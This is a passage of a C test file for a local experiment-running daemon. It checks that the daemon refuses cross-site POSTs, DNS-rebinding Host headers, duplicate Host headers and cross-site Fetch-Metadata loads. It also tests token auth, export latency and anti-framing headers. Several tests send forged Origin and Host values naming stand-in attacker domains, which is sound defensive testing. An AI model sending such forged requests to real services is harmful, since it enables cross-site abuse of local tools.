/* test_guard.c - the daemon against hostile pages, other users and faults:
 * each test sends what an attacker (a web page in the researcher's browser,
 * another user of the machine) or a fault (a deleted file, a client that
 * goes away, a limit below what the engine needs) would, to a real daemon
 * on a loopback port over real HTTP, and checks that it is refused or
 * handled and that nothing acknowledged is lost.
 *
 * Every test starts its own daemons on a fresh state directory with a tiny
 * prepared dataset; stand-in workers (tests/bad_worker.c, its from-spec mode:
 * the experiment's name picks the behaviour) keep runs short. Every wait is a
 * bounded poll; the suite's one .timeout bounds each test (see test_daemon.c
 * for why there is only one). */
#include <arpa/inet.h>
#include <cjson/cJSON.h>
#include <criterion/criterion.h>
#include <curl/curl.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sqlite3.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <signal.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "daemon/store/store.h"
#include "tests/testutil.h"

#define MAX_DAEMONS 3

static char *tmp, *state;
static tu_server_t daemons[MAX_DAEMONS];
static int n_daemons;

static void setup(void) {
    unsetenv("NIGHTSHIFT_TOKEN");
    tu_bad_worker();
    cr_assert_eq(curl_global_init(CURL_GLOBAL_DEFAULT), CURLE_OK);
    tmp = tu_tmpdir();
    state = tu_path("%s/state", tmp);
    char *corpus = tu_path("%s/corpus.jsonl", tmp);
    tu_prep_tiny(corpus, state, "tiny");
    free(corpus);
}

static void teardown(void) {
    for (int i = 0; i < n_daemons; i++) tu_server_release(&daemons[i]);
    n_daemons = 0;
    tu_rmrf(tmp);
    free(tmp);
    free(state);
    curl_global_cleanup();
}

TestSuite(guard, .init = setup, .fini = teardown, .timeout = 120);

/* `nightshift serve --dir STATE --listen 127.0.0.1:0 --memory-mb 0
 * --worker-cmd STAND-IN EXTRA...` (extra NULL-terminated, may be NULL). */
static tu_server_t *daemon_start(const char *const *extra) {
    cr_assert(n_daemons < MAX_DAEMONS);
    tu_server_t *d = &daemons[n_daemons];
    char *errlog = tu_path("%s/daemon-%d.err", tmp, n_daemons);
    char *cmd = tu_path("%s from-spec", tu_bad_worker());
    char *argv[40] = {(char *)tu_bin(), "serve",       "--dir", state,          "--listen",
                      "127.0.0.1:0",    "--memory-mb", "0",     "--worker-cmd", cmd};
    int n = 10;
    for (int i = 0; extra && extra[i]; i++) {
        cr_assert(n < 39);
        argv[n++] = (char *)extra[i];
    }
    argv[n] = NULL;
    n_daemons++;
    tu_server_start(d, "daemon", argv, errlog, 20);
    free(cmd);
    free(errlog);
    return d;
}

/* A spec for the stand-in: its name picks the behaviour. Caller frees. */
static char *spec(const char *name, int seed, double budget) {
    return tu_path("{\"name\":\"%s\",\"dataset\":\"tiny\",\"seed\":%d,\"time_budget_s\":%g,"
                   "\"model\":{\"depth\":1,\"n_embd\":32,\"n_head\":2,\"seq_len\":32},"
                   "\"train\":{\"batch_size\":4,\"total_batch_tokens\":128},"
                   "\"resources\":{\"threads\":1,\"peak_gflops\":10}}",
                   name, seed, budget);
}

/* A request with the given header lines (NULL-terminated); the reply's
 * status must be want. Returns the reply (tu_reply_free). */
static tu_reply_t request(const tu_server_t *d, const char *method, const char *path,
                          const char *body, const char *const *headers, long want) {
    tu_reply_t r;
    tu_http_headers(d, method, path, body, body ? strlen(body) : 0, headers, &r);
    cr_expect_eq(r.status, want, "%s %s with %s%s: HTTP %ld, want %ld: %.300s", method, path,
                 headers[0] ? headers[0] : "no headers", headers[0] && headers[1] ? " ..." : "",
                 r.status, want, r.body);
    return r;
}

static void expect(const tu_server_t *d, const char *method, const char *path, const char *body,
                   const char *const *headers, long want, const char *want_code) {
    tu_reply_t r = request(d, method, path, body, headers, want);
    if (want_code) cr_expect(strstr(r.body, want_code), "%s %s: %s", method, path, r.body);
    tu_reply_free(&r);
}

/* Send raw bytes on a new connection and read until the server closes it
 * (at most timeout_s); returns what came back (caller frees). */
static char *raw_request(const tu_server_t *d, const char *bytes, double timeout_s) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons((uint16_t)d->port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    cr_assert(fd >= 0 && connect(fd, (struct sockaddr *)&a, sizeof a) == 0, "connect: %s",
              strerror(errno));
    cr_assert_eq(write(fd, bytes, strlen(bytes)), (ssize_t)strlen(bytes));
    size_t len = 0, cap = 1 << 16;
    char *out = calloc(1, cap);
    double deadline = tu_now() + timeout_s;
    while (tu_now() < deadline) {
        struct pollfd p = {fd, POLLIN, 0};
        if (poll(&p, 1, 50) <= 0) continue;
        if (!tu_read_some(fd, out, &len, cap)) break;
    }
    close(fd);
    return out;
}

static int count_experiments(const tu_server_t *d) {
    cJSON *list = tu_get_json(d, "/v1/experiments");
    int n = cJSON_GetArraySize(cJSON_GetObjectItem(list, "experiments"));
    cJSON_Delete(list);
    return n;
}

static const char *status_of(const tu_server_t *d, long id, char *buf, size_t len) {
    char path[64];
    snprintf(path, sizeof path, "/v1/experiments/%ld", id);
    cJSON *e = tu_get_json(d, path);
    snprintf(buf, len, "%s", tu_jstr(e, "status") ? tu_jstr(e, "status") : "?");
    cJSON_Delete(e);
    return buf;
}

/* ------------------------------------------------ finding 1: web pages */

/* A page on another site POSTs text/plain (no preflight) or sends its
 * Origin; a rebinding page's requests carry its own name in Host. All are
 * refused, and nothing is queued or cancelled; the daemon's own pages, the
 * names it serves and the configured origin pass, and only that origin gets
 * CORS headers. */
Test(guard, cross_site_and_rebinding_requests_are_refused) {
    tu_server_t *d = daemon_start(NULL);
    char *s = spec("hang", 1, 60), host[64], own[64], other[64], buf[32];
    snprintf(host, sizeof host, "Host: 127.0.0.1:%d", d->port);
    snprintf(own, sizeof own, "Origin: http://127.0.0.1:%d", d->port);
    snprintf(other, sizeof other, "Origin: http://localhost:%d", d->port + 1);

    /* A form's text/plain POST, with and without the page's Origin. */
    const char *plain_evil[] = {"Content-Type: text/plain", "Origin: http://evil.example", NULL};
    expect(d, "POST", "/v1/experiments", s, plain_evil, 403, "forbidden_origin");
    const char *plain[] = {"Content-Type: text/plain", NULL};
    expect(d, "POST", "/v1/experiments", s, plain, 415, "unsupported_media_type");
    const char *form[] = {"Content-Type: application/x-www-form-urlencoded", NULL};
    expect(d, "POST", "/v1/experiments", s, form, 415, "application/json");
    const char *json_evil[] = {"Origin: http://evil.example", NULL};
    expect(d, "POST", "/v1/experiments", s, json_evil, 403, "evil.example");
    const char *null_origin[] = {"Origin: null", NULL};
    expect(d, "POST", "/v1/experiments", s, null_origin, 403, "forbidden_origin");
    const char *port_origin[] = {other, NULL}; /* another server on this machine */
    expect(d, "POST", "/v1/experiments", s, port_origin, 403, "forbidden_origin");
    cr_expect_eq(count_experiments(d), 0, "a cross-site POST queued something");

    /* The daemon's own page may submit and cancel. */
    const char *page[] = {host, own, NULL};
    tu_reply_t r = request(d, "POST", "/v1/experiments", s, page, 201);
    cJSON *o = cJSON_Parse(r.body);
    long id = (long)tu_jnum(o, "id");
    cJSON_Delete(o);
    tu_reply_free(&r);
    for (double t = tu_now(); strcmp(status_of(d, id, buf, sizeof buf), "running");) {
        cr_assert(tu_now() - t < 20, "experiment %ld is still %s", id, buf);
        tu_sleep_ms(20);
    }
    char cancel[64];
    snprintf(cancel, sizeof cancel, "/v1/experiments/%ld/cancel", id);
    expect(d, "POST", cancel, NULL, json_evil, 403, "forbidden_origin");
    const char *no_type[] = {"Content-Type:", NULL}; /* curl -X POST, nothing else */
    expect(d, "POST", cancel, NULL, no_type, 415, "unsupported_media_type");
    expect(d, "POST", cancel, NULL, plain_evil, 403, "forbidden_origin");
    cr_expect_str_eq(status_of(d, id, buf, sizeof buf), "running", "a cross-site cancel worked");

    /* DNS rebinding: the page's own name in Host, on every route. */
    char rebind[96];
    snprintf(rebind, sizeof rebind, "Host: rebind.attacker.example:%d", d->port);
    const char *rebound[] = {rebind, NULL};
    const char *const reads[] = {"/v1/export?format=jsonl",
                                 "/v1/experiments",
                                 "/v1/status",
                                 "/v1/experiments/1/log",
                                 "/",
                                 "/healthz"};
    for (size_t i = 0; i < sizeof reads / sizeof *reads; i++)
        expect(d, "GET", reads[i], NULL, rebound, 421, "misdirected_request");
    expect(d, "POST", cancel, "", rebound, 421, "misdirected_request");
    char twice[128];
    snprintf(twice, sizeof twice, "GET /v1/status HTTP/1.1\r\n%s\r\nHost: evil.example\r\n\r\n",
             host);
    char *got = raw_request(d, twice, 10);
    cr_expect(!strncmp(got, "HTTP/1.1 400", 12), "two Host headers: %.200s", got);
    free(got);
    const char *bad[] = {"Host: exa mple", NULL};
    expect(d, "GET", "/v1/status", NULL, bad, 400, "bad_request");

    /* The names it serves (loopback ones only, by default). */
    const char *const names[] = {"Host: localhost", "Host: LOCALHOST.", "Host: 127.0.0.2:1",
                                 "Host: [::1]:8080"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        const char *h[] = {names[i], NULL};
        expect(d, "GET", "/v1/status", NULL, h, 200, NULL);
    }
    const char *lab[] = {"Host: lab.example", "Origin: https://lab.example", NULL};
    expect(d, "GET", "/v1/status", NULL, lab, 421, "--allowed-host");

    /* No CORS header, to anyone. */
    r = request(d, "GET", "/v1/status", NULL, json_evil, 403);
    cr_expect(!strcasestr(r.headers, "Access-Control"), "%s", r.headers);
    tu_reply_free(&r);
    r = request(d, "GET", "/v1/status", NULL, page, 200);
    cr_expect(!strcasestr(r.headers, "Access-Control"), "%s", r.headers);
    tu_reply_free(&r);
    cr_expect_str_eq(status_of(d, id, buf, sizeof buf), "running");
    tu_server_stop(d, 20);

    /* More names and an origin given on purpose: only that origin gets CORS. */
    const char *extra[] = {"--allowed-host", "lab.example", "--allowed-origin",
                           "http://dash.example:9000", NULL};
    d = daemon_start(extra);
    const char *const more[] = {"Host: lab.example", "Host: Lab.Example:443"};
    for (size_t i = 0; i < sizeof more / sizeof *more; i++) {
        const char *h[] = {more[i], NULL};
        expect(d, "GET", "/v1/status", NULL, h, 200, NULL);
    }
    expect(d, "GET", "/v1/status", NULL, lab, 200, NULL);
    expect(d, "GET", "/v1/status", NULL, rebound, 421, "misdirected_request");
    r = request(d, "GET", "/v1/status", NULL, json_evil, 403);
    cr_expect(!strcasestr(r.headers, "Access-Control"), "%s", r.headers);
    tu_reply_free(&r);
    const char *dash[] = {"Origin: http://dash.example:9000", NULL};
    r = request(d, "GET", "/v1/status", NULL, dash, 200);
    cr_expect(strcasestr(r.headers, "Access-Control-Allow-Origin: http://dash.example:9000\r\n"),
              "%s", r.headers);
    tu_reply_free(&r);
    r = request(d, "OPTIONS", cancel, NULL, dash, 204);
    cr_expect(strcasestr(r.headers, "Access-Control-Allow-Headers: Authorization, Content-Type"),
              "%s", r.headers);
    tu_reply_free(&r);
    expect(d, "OPTIONS", cancel, NULL, json_evil, 403, "forbidden_origin");
    tu_server_stop(d, 20);
    free(s);
}

/* Options the policy refuses: a port in --allowed-host, a path in
 * --allowed-origin. */
Test(guard, bad_allowed_names_are_usage_errors) {
    char *dir = tu_path("%s/other", tmp);
    tu_run_t r;
    tu_run_bin(&r, 15, "serve", "--dir", dir, "--listen", "127.0.0.1:0", "--allowed-host",
               "lab.example:80", NULL);
    cr_expect_eq(r.exit_code, 2, "%s", r.err);
    cr_expect(strstr(r.err, "allowed-host: 'lab.example:80'"), "%s", r.err);
    tu_run_free(&r);
    tu_run_bin(&r, 15, "serve", "--dir", dir, "--listen", "127.0.0.1:0", "--allowed-origin",
               "http://dash.example/app", NULL);
    cr_expect_eq(r.exit_code, 2, "%s", r.err);
    cr_expect(strstr(r.err, "allowed-origin"), "%s", r.err);
    tu_run_free(&r);
    free(dir);
}

/* A free TCP port on loopback (bound and released: another process could
 * take it in between, which only fails the test). */
static int free_port(void) {
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = {.sin_family = AF_INET};
    socklen_t len = sizeof a;
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    cr_assert(fd >= 0 && bind(fd, (struct sockaddr *)&a, sizeof a) == 0 &&
              getsockname(fd, (struct sockaddr *)&a, &len) == 0);
    close(fd);
    return ntohs(a.sin_port);
}

/* `make run` (scripts/run.sh) makes its daemon a token in the state
 * directory, readable by this user only: a POST without it is refused
 * (another user of the machine cannot submit or cancel), and the CLI finds
 * it there by itself. */
Test(guard, make_run_gives_its_daemon_a_token) {
    int port = free_port(), agent_port = free_port();
    char *baseline = tu_path("%s/baseline.json", tmp), *out = tu_path("%s/run.out", tmp);
    char *s = spec("base", 1, 1);
    tu_write(baseline, s);
    pid_t pid = fork();
    cr_assert(pid >= 0);
    if (pid == 0) {
        prctl(PR_SET_PDEATHSIG, SIGTERM);
        char p1[16], p2[16];
        snprintf(p1, sizeof p1, "%d", port);
        snprintf(p2, sizeof p2, "%d", agent_port);
        setenv("NIGHTSHIFT_PORT", p1, 1);
        setenv("NIGHTSHIFT_AGENT_PORT", p2, 1);
        setenv("NIGHTSHIFT_BASELINE", baseline, 1);
        int fd = open(out, O_WRONLY | O_CREAT | O_TRUNC, 0644);
        dup2(fd, 1);
        dup2(fd, 2);
        char *script = tu_path("%s/scripts/run.sh", tu_src());
        execl("/bin/bash", "bash", script, tu_bin(), state, (char *)NULL);
        _exit(127);
    }
    char *text = NULL;
    for (double t0 = tu_now(); !(text && strstr(text, "nightshift is running")); tu_sleep_ms(100)) {
        free(text);
        text = tu_read(out);
        cr_assert(tu_now() - t0 < 60 && !tu_process_gone(pid), "run.sh did not start:\n%s",
                  text ? text : "");
    }
    free(text);

    char *token_path = tu_path("%s/token", state);
    struct stat st;
    cr_assert_eq(stat(token_path, &st), 0, "no token file in the state directory");
    cr_expect_eq(st.st_mode & 0777, 0600, "the token file's mode is %o", st.st_mode & 0777);
    cr_expect_gt(st.st_size, 20);

    tu_server_t d = {.port = port};
    snprintf(d.url, sizeof d.url, "http://127.0.0.1:%d", port);
    snprintf(d.name, sizeof d.name, "daemon");
    char *s2 = spec("other", 2, 1);
    const char *none[] = {NULL};
    expect(&d, "POST", "/v1/experiments", s2, none, 401, "unauthorized");
    expect(&d, "GET", "/v1/status", NULL, none, 200, NULL);

    char *spec_file = tu_path("%s/other.json", tmp);
    tu_write(spec_file, s2);
    tu_run_t r;
    char *other_dir = tu_path("%s/elsewhere", tmp);
    mkdir(other_dir, 0755);
    char *cwd = getcwd(NULL, 0);
    cr_assert_eq(chdir(other_dir), 0);
    tu_run_bin(&r, 15, "submit", spec_file, "--url", d.url, NULL);
    cr_expect_eq(r.exit_code, 1, "without the token: %s", r.err);
    cr_expect(strstr(r.err, "unauthorized"), "%s", r.err);
    tu_run_free(&r);
    setenv("NIGHTSHIFT_DIR", state, 1);
    tu_run_bin(&r, 15, "submit", spec_file, "--url", d.url, NULL);
    unsetenv("NIGHTSHIFT_DIR");
    cr_expect_eq(r.exit_code, 0, "with the state directory's token: %s", r.err);
    tu_run_free(&r);
    cr_assert_eq(chdir(cwd), 0);
    free(cwd);

    /* Stop it as Ctrl-C would; run.sh stops the daemon and the agent. */
    kill(pid, SIGTERM);
    int status = 0;
    for (double t0 = tu_now(); waitpid(pid, &status, WNOHANG) == 0; tu_sleep_ms(50))
        if (tu_now() - t0 > 30) {
            kill(pid, SIGKILL);
            waitpid(pid, &status, 0);
            cr_expect_fail("run.sh did not stop within 30 s");
            break;
        }
    char *lock = tu_path("%s/nightshift.lock", state), *dpid = tu_read(lock);
    for (double t0 = tu_now(); dpid && atoi(dpid) > 0 && !tu_process_gone(atoi(dpid));
         tu_sleep_ms(50))
        if (tu_now() - t0 > 20) {
            kill(atoi(dpid), SIGKILL);
            cr_expect_fail("the daemon outlived run.sh");
            break;
        }
    free(dpid), free(lock), free(other_dir), free(spec_file), free(s2), free(token_path);
    free(s), free(baseline), free(out);
}

/* ------------------------------------------ finding 3: exports off the loop */

/* Fill a new store at state/nightshift.db with n finished experiments (90%
 * succeeded with a result, spread over the day), written through a second
 * connection in one transaction as tests/bench/store_bench.c does. */
static void fill_experiments(long n) {
    char *path = tu_path("%s/nightshift.db", state), err[512];
    store_t *s = NULL;
    cr_assert_eq(store_open(path, &s, err, sizeof err), 0, "%s", err);
    store_close(s);
    sqlite3 *db;
    cr_assert_eq(sqlite3_open(path, &db), SQLITE_OK);
    cr_assert_eq(sqlite3_exec(db, "BEGIN", NULL, NULL, NULL), SQLITE_OK);
    sqlite3_stmt *ins, *res;
    cr_assert_eq(
        sqlite3_prepare_v2(db,
                           "INSERT INTO experiments (id, name, spec, dataset, budget_kind, budget,"
                           " seed, source, status, config_hash, started, finished) VALUES (?1, ?2,"
                           " ?3, 'tiny', 'time', 300, ?5, 'api', ?6, ?7, ?8, ?8)",
                           -1, &ins, NULL),
        SQLITE_OK, "%s", sqlite3_errmsg(db));
    cr_assert_eq(sqlite3_prepare_v2(db,
                                    "INSERT INTO results (experiment_id, val_bpb, params_total,"
                                    " mfu_percent, tokens_per_second, num_steps, training_seconds,"
                                    " peak_rss_mb) VALUES (?1, ?2, 1234567, 12.5, 20000, 900, 300,"
                                    " 380)",
                                    -1, &res, NULL),
                 SQLITE_OK, "%s", sqlite3_errmsg(db));
    for (long id = 1; id <= n; id++) {
        char name[64], spec_text[512], chash[32], when[32];
        snprintf(name, sizeof name, "variant %ld: wider mlp, lr x%ld", id, 1 + id % 7);
        snprintf(
            spec_text, sizeof spec_text,
            "{\"dataset\":\"tiny\",\"time_budget_s\":300,\"seed\":%ld,\"model\":{\"depth\":%ld,"
            "\"n_embd\":%ld,\"n_head\":4,\"n_kv_head\":2,\"mlp\":\"relu2\",\"window_pattern\":"
            "\"SSSL\",\"ve_layers\":\"alternate\",\"seq_len\":256}}",
            id, 1 + id % 8, 64 * (1 + id % 4));
        snprintf(chash, sizeof chash, "c%ld", id % 1000);
        snprintf(when, sizeof when, "2026-11-%02ldT%02ld:%02ld:%02ld.000Z", 1 + id / 86400 % 28,
                 id / 3600 % 24, id / 60 % 60, id % 60);
        int ok = id % 10 != 0;
        sqlite3_bind_int64(ins, 1, id);
        sqlite3_bind_text(ins, 2, name, -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(ins, 3, spec_text, -1, SQLITE_TRANSIENT);
        sqlite3_bind_int64(ins, 5, id);
        sqlite3_bind_text(ins, 6, ok ? "succeeded" : "failed", -1, SQLITE_STATIC);
        sqlite3_bind_text(ins, 7, chash, -1, SQLITE_TRANSIENT);
        sqlite3_bind_text(ins, 8, when, -1, SQLITE_TRANSIENT);
        cr_assert_eq(sqlite3_step(ins), SQLITE_DONE, "%s", sqlite3_errmsg(db));
        sqlite3_reset(ins);
        if (ok) {
            sqlite3_bind_int64(res, 1, id);
            sqlite3_bind_double(res, 2, 1.0 + (id % 997) / 1000.0);
            cr_assert_eq(sqlite3_step(res), SQLITE_DONE, "%s", sqlite3_errmsg(db));
            sqlite3_reset(res);
        }
    }
    sqlite3_finalize(ins);
    sqlite3_finalize(res);
    cr_assert_eq(sqlite3_exec(db, "COMMIT", NULL, NULL, NULL), SQLITE_OK, "%s", sqlite3_errmsg(db));
    sqlite3_close(db);
    free(path);
}

/* One export read to the end on its own thread: bytes, lines, and whether
 * curl saw the body complete. */
typedef struct {
    const tu_server_t *d;
    const char *path;
    size_t bytes, lines;
    CURLcode rc;
    long status;
    pthread_t th;
    volatile int done;
} export_run_t;

static size_t count_cb(char *p, size_t size, size_t nmemb, void *arg) {
    export_run_t *e = arg;
    size_t n = size * nmemb;
    e->bytes += n;
    for (size_t i = 0; i < n; i++) e->lines += p[i] == '\n';
    return n;
}

static void *export_thread(void *arg) {
    export_run_t *e = arg;
    char url[256];
    snprintf(url, sizeof url, "%s%s", e->d->url, e->path);
    CURL *c = curl_easy_init();
    curl_easy_setopt(c, CURLOPT_URL, url);
    curl_easy_setopt(c, CURLOPT_NOSIGNAL, 1L);
    curl_easy_setopt(c, CURLOPT_TIMEOUT_MS, 100000L);
    curl_easy_setopt(c, CURLOPT_WRITEFUNCTION, count_cb);
    curl_easy_setopt(c, CURLOPT_WRITEDATA, e);
    e->rc = curl_easy_perform(c);
    curl_easy_getinfo(c, CURLINFO_RESPONSE_CODE, &e->status);
    curl_easy_cleanup(c);
    __atomic_store_n(&e->done, 1, __ATOMIC_RELEASE);
    return NULL;
}

static int cmp_double(const void *a, const void *b) {
    double x = *(const double *)a, y = *(const double *)b;
    return x < y ? -1 : x > y;
}

/* /healthz asked every 10 ms until *stop (or for seconds when stop is
 * NULL): the latencies in ms into lat (at most max); returns how many. */
static int probe_healthz(const tu_server_t *d, volatile int *stop, volatile int *stop2,
                         double seconds, double *lat, int max) {
    int n = 0;
    for (double t0 = tu_now();;) {
        if (stop ? __atomic_load_n(stop, __ATOMIC_ACQUIRE) &&
                       __atomic_load_n(stop2, __ATOMIC_ACQUIRE)
                 : tu_now() - t0 > seconds)
            break;
        tu_reply_t r;
        tu_http(d, "GET", "/healthz", NULL, 0, NULL, &r);
        cr_assert_eq(r.status, 200);
        if (n < max) lat[n++] = r.seconds * 1e3;
        tu_reply_free(&r);
        tu_sleep_ms(10);
        cr_assert(tu_now() - t0 < 100, "the exports did not end within 100 s");
    }
    return n;
}

/* "median M ms, p95 P ms, max X ms" of n latencies (sorted in place). */
static const char *latency_summary(double *lat, int n, char *buf, size_t len) {
    qsort(lat, (size_t)n, sizeof *lat, cmp_double);
    snprintf(buf, len, "%d probes: median %.1f ms, p95 %.1f ms, max %.1f ms", n, lat[n / 2],
             lat[n * 95 / 100], lat[n - 1]);
    return buf;
}

/* Two exports of every experiment at once, while /healthz is asked every
 * 10 ms: the loop must keep answering within 50 ms, and both exports must
 * arrive whole. NIGHTSHIFT_EXPORT_EXPERIMENTS sets the size (default 20,000,
 * to stay fast in the suite; make bench-export runs 100,000). Before the
 * fix each export built its whole text on the loop: 4-6 s per request at
 * 100,000 experiments, /healthz held for all of it.
 * On a machine shared with other work (and other tests: the suite runs two
 * at once) a probe now and then waits for a core whatever the daemon does,
 * so the 50 ms bound is on the 95th percentile; the slowest probe is
 * reported, and the same probes against the idle daemon first show the
 * machine's own floor. */
Test(guard, exports_stream_while_the_loop_answers) {
    const char *env = getenv("NIGHTSHIFT_EXPORT_EXPERIMENTS");
    long n = env && atol(env) > 0 ? atol(env) : 20000;
    double t0 = tu_now();
    fill_experiments(n);
    cr_log_info("filled %ld experiments in %.1f s", n, tu_now() - t0);
    tu_server_t *d = daemon_start(NULL);
    export_run_t runs[2] = {{.d = d, .path = "/v1/export?format=csv"},
                            {.d = d, .path = "/v1/export?format=jsonl"}};
    enum { MAX_PROBES = 100000 };
    double *idle = calloc(MAX_PROBES, sizeof *idle), *lat = calloc(MAX_PROBES, sizeof *lat);
    char idle_text[128], busy_text[128];
    int n_idle = probe_healthz(d, NULL, NULL, 1.0, idle, MAX_PROBES);
    t0 = tu_now();
    for (int i = 0; i < 2; i++) pthread_create(&runs[i].th, NULL, export_thread, &runs[i]);
    int probes = probe_healthz(d, &runs[0].done, &runs[1].done, 0, lat, MAX_PROBES);
    double took = tu_now() - t0;
    for (int i = 0; i < 2; i++) pthread_join(runs[i].th, NULL);
    for (int i = 0; i < 2; i++) {
        cr_expect_eq(runs[i].rc, CURLE_OK, "%s: %s", runs[i].path, curl_easy_strerror(runs[i].rc));
        cr_expect_eq(runs[i].status, 200);
    }
    cr_expect_eq(runs[0].lines, (size_t)n + 1, "csv: %zu lines for %ld experiments and a header",
                 runs[0].lines, n);
    cr_expect_eq(runs[1].lines, (size_t)n, "jsonl: %zu lines for %ld experiments", runs[1].lines,
                 n);
    cr_assert(probes > 0 && n_idle > 0);
    latency_summary(idle, n_idle, idle_text, sizeof idle_text);
    latency_summary(lat, probes, busy_text, sizeof busy_text);
    double p95 = lat[probes * 95 / 100];
    fprintf(stderr,
            "exports: %ld experiments x 2 (%zu + %zu bytes) in %.2f s; /healthz during them %s; "
            "idle daemon %s\n",
            n, runs[0].bytes, runs[1].bytes, took, busy_text, idle_text);
    cr_expect_lt(p95, 50, "/healthz during the exports: %s (idle daemon: %s)", busy_text,
                 idle_text);
    free(idle);
    free(lat);
    tu_server_stop(d, 20);
}

/* ------------------------------------------- reports off the loop (issue 36) */

/* The report, its Markdown and its page, one after the other. */
typedef struct {
    export_run_t runs[3];
    double longest; /* the slowest one's seconds */
    volatile int done;
} report_runs_t;

static void *reports_thread(void *arg) {
    report_runs_t *r = arg;
    for (int i = 0; i < 3; i++) {
        double t0 = tu_now();
        export_thread(&r->runs[i]);
        if (tu_now() - t0 > r->longest) r->longest = tu_now() - t0;
    }
    __atomic_store_n(&r->done, 1, __ATOMIC_RELEASE);
    return NULL;
}

/* The report of a large night, as JSON, as Markdown and as the page, while
 * /healthz is asked every 10 ms. Before, each was built on the loop (about
 * 2 s at 100,000 experiments) and the probes waited for all of it; now
 * reports are built on the thread pool, one at a time, and the loop answers
 * meanwhile: no probe waits as long as half a report, and the 95th
 * percentile stays under 50 ms (see exports_stream_while_the_loop_answers
 * for why not the maximum). NIGHTSHIFT_REPORT_EXPERIMENTS sets the size
 * (default 20,000). */
Test(guard, reports_are_built_off_the_loop) {
    const char *env = getenv("NIGHTSHIFT_REPORT_EXPERIMENTS");
    long n = env && atol(env) > 0 ? atol(env) : 20000;
    fill_experiments(n);
    tu_server_t *d = daemon_start(NULL);
    report_runs_t r = {.runs = {{.d = d, .path = "/v1/report"},
                                {.d = d, .path = "/v1/report?format=md"},
                                {.d = d, .path = "/report"}}};
    enum { MAX_PROBES = 100000 };
    double *lat = calloc(MAX_PROBES, sizeof *lat);
    char busy_text[128];
    pthread_t th;
    double t0 = tu_now();
    pthread_create(&th, NULL, reports_thread, &r);
    int probes = probe_healthz(d, &r.done, &r.done, 0, lat, MAX_PROBES);
    double took = tu_now() - t0;
    pthread_join(th, NULL);
    for (int i = 0; i < 3; i++) {
        cr_expect_eq(r.runs[i].rc, CURLE_OK, "%s: %s", r.runs[i].path,
                     curl_easy_strerror(r.runs[i].rc));
        cr_expect_eq(r.runs[i].status, 200, "%s: HTTP %ld", r.runs[i].path, r.runs[i].status);
        cr_expect_gt(r.runs[i].bytes, 100, "%s: %zu bytes", r.runs[i].path, r.runs[i].bytes);
    }
    cr_assert(probes > 0);
    latency_summary(lat, probes, busy_text, sizeof busy_text);
    fprintf(stderr,
            "reports: %ld experiments, 3 reports in %.2f s (the longest %.2f s); /healthz "
            "during them %s\n",
            n, took, r.longest, busy_text);
    cr_expect_lt(lat[probes - 1], r.longest * 1e3 / 2, "/healthz during the reports: %s",
                 busy_text);
    cr_expect_lt(lat[probes * 95 / 100], 50, "/healthz during the reports: %s", busy_text);
    free(lat);
    tu_server_stop(d, 20);
}

/* A page on another site that puts the report or an export in an <img>, a
 * <script> or a frame (Sec-Fetch-Site cross-site or same-site, no Origin)
 * is refused before any work; the daemon's own page, an address typed in,
 * a link followed to the page and clients without Fetch Metadata are
 * answered. Before, all of them were answered. */
Test(guard, cross_site_gets_that_cost_work_are_refused) {
    tu_server_t *d = daemon_start(NULL);
    static const char *const paths[] = {"/v1/report", "/report", "/v1/export?format=csv"};
    const char *img[] = {"Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: no-cors",
                         "Sec-Fetch-Dest: image", NULL};
    const char *script[] = {"Sec-Fetch-Site: same-site", "Sec-Fetch-Mode: no-cors",
                            "Sec-Fetch-Dest: script", NULL};
    const char *frame[] = {"Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate",
                           "Sec-Fetch-Dest: iframe", NULL};
    const char *own[] = {"Sec-Fetch-Site: same-origin", "Sec-Fetch-Mode: cors",
                         "Sec-Fetch-Dest: empty", NULL};
    const char *typed[] = {"Sec-Fetch-Site: none", "Sec-Fetch-Mode: navigate",
                           "Sec-Fetch-Dest: document", NULL};
    const char *link[] = {"Sec-Fetch-Site: cross-site", "Sec-Fetch-Mode: navigate",
                          "Sec-Fetch-Dest: document", NULL};
    const char *none[] = {NULL};
    for (size_t i = 0; i < sizeof paths / sizeof paths[0]; i++) {
        expect(d, "GET", paths[i], NULL, img, 403, "cross_site");
        expect(d, "GET", paths[i], NULL, script, 403, "cross_site");
        expect(d, "GET", paths[i], NULL, frame, 403, "cross_site");
        expect(d, "GET", paths[i], NULL, own, 200, NULL);
        expect(d, "GET", paths[i], NULL, typed, 200, NULL);
        expect(d, "GET", paths[i], NULL, link, 200, NULL);
        expect(d, "GET", paths[i], NULL, none, 200, NULL);
    }
    /* what costs nothing is answered to any page, as before */
    expect(d, "GET", "/healthz", NULL, img, 200, NULL);
    tu_server_stop(d, 20);
}

/* ------------------------------------------- framing and quoting (issue 36) */

/* Every HTML answer refuses to be framed (X-Frame-Options and CSP
 * frame-ancestors), so no other site can lay the dashboard's cancel buttons
 * under its own; every answer (the handlers', the server's own errors, a
 * stream's head) carries nosniff. An error that quotes a field name or a
 * value that is not UTF-8 quotes it with '?' and stays JSON. Before: none of
 * the headers, and the bytes echoed raw. */
Test(guard, no_framing_no_sniffing_and_errors_in_utf8) {
    tu_server_t *d = daemon_start(NULL);
    const char *none[] = {NULL};
    static const char *const html[] = {"/", "/report"};
    for (size_t i = 0; i < 2; i++) {
        tu_reply_t r = request(d, "GET", html[i], NULL, none, 200);
        cr_expect(strcasestr(r.headers, "X-Frame-Options: DENY"), "%s: %s", html[i], r.headers);
        cr_expect(strcasestr(r.headers, "Content-Security-Policy: frame-ancestors 'none'"),
                  "%s: %s", html[i], r.headers);
        cr_expect(strcasestr(r.headers, "X-Content-Type-Options: nosniff"), "%s: %s", html[i],
                  r.headers);
        tu_reply_free(&r);
    }
    static const struct {
